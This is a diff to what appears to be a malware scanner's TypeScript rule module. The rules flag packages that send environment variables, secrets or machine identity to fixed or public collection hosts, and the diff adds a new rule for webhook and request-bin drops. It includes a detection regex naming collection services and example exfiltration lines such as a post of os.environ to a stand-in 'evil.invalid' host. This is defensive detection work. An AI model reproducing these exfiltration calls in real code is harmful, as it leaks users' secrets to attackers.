@@ -1,4 +1,6 @@
 import { WHEN, describeLabels, isUnasked, type Combination } from './combination.js';
+import { CARRIERS } from './commands.js';
+import type { Sighting } from './machine-parts.js';
 import type { Label } from './value.js';
 
 const IDENTITY: readonly Label[] = ['hostname', 'username', 'directory', 'address'];
@@ -6,6 +8,12 @@ const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'process-o
 /** Hosts where anybody can collect what is sent to them. */
 const DROPS =
   /(?:discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hooks\.slack\.com|webhook\.site|pipedream\.net|oast\.\w+|interact\.sh|burpcollaborator|requestbin|ngrok|transfer\.sh|file\.io|gofile\.io|anonfiles|dnslog|canarytokens|beeceptor|mockapi|hookbin|ptsv\d?\.com|oastify)/i;
+
+/** A request, or a program that carries its arguments to a literal host. */
+function leaves({ behaviour, host, text }: Sighting): boolean {
+  if (host === undefined) return false;
+  return behaviour === 'contacts' || (behaviour === 'starts-process' && CARRIERS.test(text ?? ''));
+}
 
 const count = (labels: ReadonlySet<Label>, of: readonly Label[]): number =>
   of.filter((label) => labels.has(label)).length;
@@ -21,11 +29,13 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'requests.post("https://evil.invalid", json=dict(os.environ))',
       technique: 'T1041',
     },
-    judge: ({ behaviour, labels, reach, host, text }) => {
-      if (behaviour !== 'contacts' || host === undefined || count(labels, STOLEN) === 0) return undefined;
+    judge: (sighting) => {
+      const { labels, reach, text } = sighting;
+      if (!leaves(sighting) || count(labels, STOLEN) === 0) return undefined;
       if (isUnasked(reach)) return 'CRITICAL';
       if (labels.has('parameter')) return 'LOW';
-      return DROPS.test(text ?? '') ? 'CRITICAL' : 'LOW';
+      const isStrict = DROPS.test(text ?? '') || (labels.has('secret') && labels.has('secret-path'));
+      return isStrict ? 'CRITICAL' : 'LOW';
     },
     message: ({ name, reach, labels }) =>
       `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
@@ -40,11 +50,13 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'requests.get("https://evil.invalid/?h=" + socket.gethostname())',
       technique: 'T1082',
     },
-    judge: ({ behaviour, labels, reach, host }) => {
+    judge: (sighting) => {
+      const { labels, reach } = sighting;
       const values = count(labels, IDENTITY);
-      if (behaviour !== 'contacts' || host === undefined || values === 0) return undefined;
-      if (isUnasked(reach)) return values >= 2 ? 'CRITICAL' : 'HIGH';
-      return 'LOW';
+      if (!leaves(sighting) || values === 0) return undefined;
+      if (!isUnasked(reach)) return 'LOW';
+      // A network answer sent along is, in beacons, the public address that was asked for before.
+      return values >= 2 || labels.has('network') || labels.has('system') ? 'CRITICAL' : 'HIGH';
     },
     message: ({ name, reach, labels }) =>
       `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
@@ -64,6 +76,21 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       return isUnasked(reach) ? 'CRITICAL' : 'LOW';
     },
     message: ({ name, reach }) => `${name} contacts an encoded address ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'drop-contacted',
+      title: 'Posts to a collecting address without being asked',
+      why: 'Chat webhooks, bot interfaces and request bins are where stolen data is collected, because anybody can open one.',
+      remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
+      example: 'requests.post("https://webhook.site.evil.invalid/…", data=found)',
+      technique: 'T1567.004',
+    },
+    judge: (sighting) => {
+      if (!leaves(sighting) || !DROPS.test(`${sighting.text ?? ''} ${sighting.host ?? ''}`)) return undefined;
+      return isUnasked(sighting.reach) ? 'CRITICAL' : 'LOW';
+    },
+    message: ({ name, reach }) => `${name} posts to a collecting address ${WHEN[reach]}`,
   },
   {
     doc: {
